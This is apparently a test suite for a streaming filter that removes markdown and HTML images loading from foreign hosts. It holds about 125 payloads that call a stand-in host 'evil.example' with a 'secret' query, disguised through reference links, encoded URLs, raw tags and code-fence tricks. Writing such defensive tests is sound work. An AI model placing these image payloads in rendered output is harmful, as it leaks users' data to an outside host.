import { marked } from 'marked';
import { PictureFilter, withoutForeignPictures } from './picture-filter.js';
import { rounds } from '../../../../test/support/long.js';

const EVIL = 'https://evil.example/p?d=secret';

/** What a client would load by itself from elsewhere: the addresses in what a renderer that allows tags makes of it. */
function loaded(markdown: string): string[] {
  const html = marked.parse(markdown, { async: false });
  const tags = html.match(/<[a-z][^>]*(?:"[^"]*"[^>]*|'[^']*'[^>]*)*>/gi) ?? [];
  return tags.filter(
    (tag) => !/^<(?:a|code)\s/i.test(tag) && /evil/.test(tag) && /\b(src|srcset|style|href|data|poster)\s*=/i.test(tag),
  );
}

function inPieces(text: string, sizeOf: () => number): string {
  const filter = new PictureFilter();
  let told = '';
  for (let at = 0; at < text.length;) {
    const size = sizeOf();
    told += filter.push(text.slice(at, at + size));
    at += size;
  }
  return told + filter.end();
}

const FENCES = ['```', '~~~', '````'];
const LEADS = ['', ' ', '  ', '   ', '    ', '- ', '1. ', '2) ', '> ', '-   ', '* - ', '\t'];

const HOSTILE = [
  `![a](${EVIL})`,
  `![](<${EVIL}> "t")`,
  `![a\nb](${EVIL}\n'title')`,
  `![a][r]\n\n[r]: ${EVIL}`,
  `[r]: ${EVIL}\n\n![r] ![x][r] ![R][]`,
  `![a][ r\n s ]\n\n[R s]:\n  <${EVIL}>`,
  `> ![a][r]\n>\n> - [r]: ${EVIL}`,
  `[![a](${EVIL})](https://other.example)`,
  `![a ![b](${EVIL}) c](${EVIL})`,
  `![a \`]\` b](${EVIL})`,
  `![a \\] b](${EVIL})`,
  `\\\\![a](${EVIL})`,
  `![a](//evil.example/x)`,
  `![a](/media/../..//evil.example)`.replace('/media/../..', ''),
  `![a](&#104;ttps://evil.example/x)`,
  `![a](h%74tps://evil.example)`,
  `<IMG\nsrc=${EVIL}\n>`,
  `<img/src=${EVIL}>`,
  `text <picture><source srcset="${EVIL}"></picture>`,
  `<div style="background:url(${EVIL})">\n`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<object data="${EVIL}"></object> <link rel=prefetch href=${EVIL}>`,
  `<style>a{background:url(${EVIL})}</style>`,
  `<!-- --><img src=${EVIL}>`,
  `<n title=">" style="background:url(${EVIL})">`,
  `<iframe src=${EVIL}`,
  `<div>\n<ab:c/style=background:url(//evil.example)>\n</div>`,
  `[^1]: [r]: ${EVIL}\n\n![r] [^1]`,
  `- \`\`\`\n  \`\`\`\n   ![a](${EVIL})`,
  `> \`\`\`\n![a](${EVIL})`,
  `- x\n\n  \`\`\`\n![a](${EVIL})`,
  `  \`\`\`\ncode\n\`\`\`\n![a](${EVIL})`,
  `para\n    \`\`\`\n    ![a](${EVIL})`,
  `para\n    ![a](${EVIL})`,
  `- a\n\n      b\n    ![a](${EVIL})`,
  `<div>\n\`\`\`\n</div>\n\n![a](${EVIL})\n\`\`\``,
  `<div>\n\`<img src=${EVIL}>\`\n</div>`,
  `\` ![a](${EVIL})`,
  `\`\` a \` ![a](${EVIL}) \``,
  `\\\` ![a](${EVIL}) \``,
  `[a](/x\`y) ![a](${EVIL}) \``,
  `[a](/u "a) \` b") ![a](${EVIL}) \``,
  `[a](x \` y) \` ![a](${EVIL}) \``,
  `<https://a\`b> ![a](${EVIL}) \``,
  `www.a.example/\` ![a](${EVIL}) \``,
  `| h | i | j |\n|---|---|---|\n| \` | ![a](${EVIL}) | \` |`,
  `\`\`\` x \`\`\`\n![a](${EVIL})\n\`\`\``,
  `~~~\n\`\`\`\n~~~\n![a](${EVIL})`,
  `\`\`\`\`\n\`\`\`\n![a](${EVIL})\n\`\`\`\`\n![a](${EVIL})`,
  `\`\`\`\r![a](x)\r\`\`\`\r![a](${EVIL})`,
  `[^1]: note\n\n    ![a](${EVIL})\n\nx[^1]`,
  `*a*![a](${EVIL})**b**`,
  `# ![a](${EVIL})`,
  `![x](${EVIL})`,
  `![](<${EVIL}>)`,
  `Look!!![x](${EVIL})`,
  `[r]: ${EVIL}\n\n![x]![r](${EVIL})`,
  `![x]( ${EVIL} "title")`,
  `![x](\n${EVIL})`,
  `![x](//evil.example/p)`,
  `![x](/\\evil.example/p)`,
  `![x](https&colon;//evil.example)`,
  `![x](&#47;/evil.example)`,
  `![x](ht\\tps://evil.example)`,
  `![x][r]\n\n[r]: ${EVIL}`,
  `![r][]\n\n[r]: ${EVIL}`,
  `![r]\n\n[r]: ${EVIL}`,
  `[r]: ${EVIL}\n\n![r] ![R ]`,
  `> [ß]: ${EVIL}\n\n![SS]`,
  `![a\nb]\n\n[A B]: ${EVIL}`,
  `[![x](${EVIL})](/own)`,
  `![a ![b](${EVIL}) c](/media/own.png)`,
  `![\`]\`](${EVIL})`,
  `![a\\]b](${EVIL})`,
  `![<b>]</b>](${EVIL})`,
  `\\\\![x](${EVIL})`,
  `- \`\`\`\n![x](${EVIL})`,
  `  \`\`\`\n  a\n  \`\`\`\n![x](${EVIL})\n\`\`\`\n`,
  `<div>\n\`\`\`\n\n![x](${EVIL})\n`,
  `<!--\n\n\`\`\`\n-->\n![x](${EVIL})\n`,
  `\`\`\` a\`b\n![x](${EVIL})`,
  `\`\`\`\`\n\`\`\`\n\`\`\`\`\n![x](${EVIL})`,
  `\`\n\`![x](${EVIL})\``,
  `<img src="${EVIL}">`,
  `<div>\n<ab:c/style=background:url(${EVIL})>\n</div>`,
  `<IMG/SRC='${EVIL}'/>`,
  `<img alt=">" src=${EVIL}>`,
  `<img\nsrcset="/a 1x, ${EVIL} 2x">`,
  `<picture><source srcset="${EVIL}"><img src=/own></picture>`,
  `<p style="background: url(${EVIL})">x</p>`,
  `<p style="background:u\\72l(${EVIL})">x</p>`,
  `<style>p{background:url(${EVIL})}</style>`,
  `<svg><image xlink:href="${EVIL}"/><use href='${EVIL}#a'/></svg>`,
  `<object data="${EVIL}"></object><embed src=${EVIL}>`,
  `<link rel=prefetch href="${EVIL}">`,
  `<video poster="${EVIL}"></video>`,
  `<img src="&#104;ttps://evil.example">`,
];

/** Code that only looks like it: something before makes it a picture for one renderer or another. */
const NO_CODE = [
  `Wow![^1] ![^1][]\n\n[^1]: ${EVIL}\n`,
  `- a\n\n    \`\`\`\n   \`\`\`\n   ![x](${EVIL})\n   \`\`\`\n`,
  `-   a\n\n    ~~~\n   ~~~\n   ![x](${EVIL})`,
  `> \`\`\`\n> a\n  \`\`\`\n  ![x](${EVIL})\n  \`\`\``,
  `- <div>\n  \`\`\`\n  <img src=${EVIL}>\n  \`\`\``,
  `- <div>\n  \`<img src=${EVIL}>\``,
  `- $$\n  \`\`\`\n  $$\n\n  ![x](${EVIL})`,
  `  \`\`\`\n a\n\`\`\`\n\`\`\`\n![x](${EVIL})\n`,
  `- \`\`\`\n![x](${EVIL})\n  \`\`\``,
  `- \`\`\`\n  a\n\`\`\`\n![y](/z)\n\`\`\`\n![x](${EVIL})\n`,
  `para\n2. \`\`\`\n\n   ![x](${EVIL})\n   \`\`\``,
  `-     \`\`\`\n  ![x](${EVIL})\n      \`\`\``,
  `- \`\`\`\n  a\n    \`\`\`\n  ![x](${EVIL})`,
  `-\t\`\`\`\n  ![x](${EVIL})`,
  `a \` b\n\` ![x](${EVIL}) \``,
  `a \` b\r\r\` ![x](${EVIL}) \``,
  `a \` b\u2003\n\u2003\n\` ![x](${EVIL}) \``,
  `a \` b\n>\n\` ![x](${EVIL}) \``,
  `[a](\`) ![x](${EVIL}) \``,
  `[a]: <\n\` ![x](${EVIL}) \``,
  `[a](/u\n"\` ") ![x](${EVIL}) \``,
  `https://a.example/(\` ![x](${EVIL}) \``,
  `{ \` } ![x](${EVIL}) \``,
  `a | b\n--|--\n\` | ![x](${EVIL}) \``,
  `$\`$ ![x](${EVIL}) \``,
  `&#96; \` a \` ![x](${EVIL}) \``,
  `\`\`\` a\n\n\` \`\`\` ![x](${EVIL}) \``,
  `![a](/media/x "\` ") ![x](${EVIL}) \``,
  `![\` a](/x) ![x](${EVIL}) \``,
];

const HARMLESS = [
  'Plain words! [A link](https://example.com) and <https://example.com>.',
  '![Sales [2024]](/media/charts/a.png?token=x&expires=9) and ![](images/b.png)',
  'In Rust `vec![1, 2]`, vec![] or assert![a]; in JS if (![1, 2].includes(x)) {}',
  '```md\n![x](https://example.com/x.png)\n<img src="https://example.com/x.png">\n```\nDone!',
  '~~~\n![x][y]\n~~~\n\n[y]: https://example.com',
  'Escaped \\![x](y), a < b, List<String>, <br>, the tag `<img>` and <b>bold</b>.',
  '<img src="/media/own.png?token=a&expires=1" alt="ours"> <p style="color: red">x</p>',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '[1]: https://example.com "A source"\n\nSee [this][1]. Costs $5!\n\n| a | b |\n|---|---|\n',
  'Wow!\n\n# Title!\n\n1. one!\n2. two [x]\n- [ ] task!',
  'Ends with a mark!',
  'Ends with ![',
  `Write \`![alt](${EVIL})\` for a picture, or (\`<img src="${EVIL}">\`).`,
  `See [the guide](https://example.com/a_b) [1] and \`\` a ![x](${EVIL}) \` b \`\`!`,
  `- First: \`![x](${EVIL})\`\n- **\`<img src=${EVIL}>\`**\n\n> Quoted \`![x](${EVIL})\`.\n`,
  `1. Do this:\n\n   \`\`\`md\n   ![x](${EVIL})\n\n     <img src="${EVIL}">\n   \`\`\`\n2. Then \`![y](${EVIL})\`.`,
  `- \`\`\`md\n  ![x](${EVIL})\n  \`\`\`\n- ~~~\n  ![x](${EVIL})\n  ~~~\n\nDone.`,
  `  \`\`\`\n  ![x](${EVIL})\n  \`\`\`\n`,
];

describe('PictureFilter', () => {
  it.each([...HOSTILE, ...NO_CODE].map((text) => [text]))('lets nothing be loaded from elsewhere by %j', (text) => {
    expect(loaded(withoutForeignPictures(text))).toEqual([]);
  });

  it('would be needed: these do load', () => {
    expect(HOSTILE.filter((text) => loaded(text).length > 0).length).toBeGreaterThan(HOSTILE.length / 2);
  });

  it.each(HARMLESS.map((text) => [text]))('leaves %j as it is', (text) =>
    expect(withoutForeignPictures(text)).toBe(text),
  );

  it('makes a link of a picture, which says where it leads', () => {
    expect(withoutForeignPictures(`See ![the *plan*](${EVIL}).`)).toBe(`See [the *plan*](${EVIL}).`);
    expect(withoutForeignPictures(`<img src="${EVIL}">`)).toBe(`&lt;img src="${EVIL}">`);
  });

  it('gives the same for any pieces, for whatever is put together, and twice', () => {
    let seed = 20_261_123;
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
      return seed % below;
    };
    const parts = [
      ...HOSTILE,
      ...NO_CODE,
      ...HARMLESS,
      '\n',
      '\n\n',
      '`',
      '```\n',
      '\n```\n',
      '> ',
      '- ',
      '    ',
      '[',
      ']',
      '(',
      '!',
      '\\',
      '<',
      '"',
      '$$\n',
    ];
    for (let round = 0; round < rounds(15_000, 1_500, 300); round += 1) {
      const text = Array.from({ length: 1 + random(6) }, () => parts[random(parts.length)]!).join(
        ['', '\n', ' '][random(3)],
      );
      const whole = withoutForeignPictures(text);
      expect([text, inPieces(text, () => 1)]).toEqual([text, whole]);
      expect([text, inPieces(text, () => 1 + random(9))]).toEqual([text, whole]);
      expect([text, withoutForeignPictures(whole)]).toEqual([text, whole]);
      expect([text, loaded(whole)]).toEqual([text, []]);
    }
  });

  it('takes for code nothing that a renderer does not, however lines, lists, quotes and fences are put together', () => {
    let seed = 17;
    const random = (below: number): number => {
      seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
      return (seed >>> 8) % below;
    };
    const one = (from: readonly string[]) => from[random(from.length)]!;
    const inline = ['`', '``', ' a ', '!', '[b]', '[b](/c)', '\\', '|', '<i>', '"', '*', ' ', '$', `![x](${EVIL})`];
    const picture = () => `![x${random(9)}](${EVIL})`;
    const line = (): string => {
      switch (random(7)) {
        case 0:
          return '';
        case 1:
        case 2:
          return one(LEADS) + one(FENCES) + one(['', '', 'md']);
        case 3:
          return one(LEADS) + picture();
        case 4:
          return `${one(LEADS)}\`${picture()}\``;
        case 5:
          return one(LEADS) + Array.from({ length: 1 + random(6) }, () => one(inline)).join('');
        default:
          return `${one(LEADS)}text`;
      }
    };
    let kept = 0;
    for (let round = 0; round < rounds(40_000, 4_000, 800); round += 1) {
      const text = Array.from({ length: 1 + random(8) }, line).join('\n');
      const whole = withoutForeignPictures(text);
      expect([text, loaded(whole)]).toEqual([text, []]);
      if (whole.includes(`](${EVIL})`) && whole.includes('![x')) kept += 1;
      if (round % 8 > 0) continue;
      expect([text, inPieces(text, () => 1)]).toEqual([text, whole]);
      expect([text, withoutForeignPictures(whole)]).toEqual([text, whole]);
    }
    expect(kept).toBeGreaterThan(rounds(4_000, 400, 80));
  });

  it('holds no more back than it has to', () => {
    const filter = new PictureFilter();
    expect(filter.push('Hello, ')).toBe('Hello, ');
    expect(filter.push('world! ')).toBe('world! ');
    expect(filter.push('![')).toBe('');
    expect(filter.push('x'.repeat(3_000)).length).toBeGreaterThan(2_000);
    expect(filter.push(' <a href="').length).toBeGreaterThan(0);
    expect(filter.end()).toBe('<a href="');
  });
});
